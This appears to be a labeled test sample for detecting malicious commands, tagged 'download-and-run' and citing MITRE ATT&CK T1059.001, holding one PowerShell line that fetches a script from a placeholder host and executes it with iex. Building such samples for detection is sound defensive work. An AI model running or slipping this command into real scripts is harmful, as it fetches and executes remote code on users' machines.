@rem expect: download-and-run | source: MITRE ATT&CK T1059.001
powershell -c "& { $t = irm \"http://files.example.invalid/s\"; iex $t }"
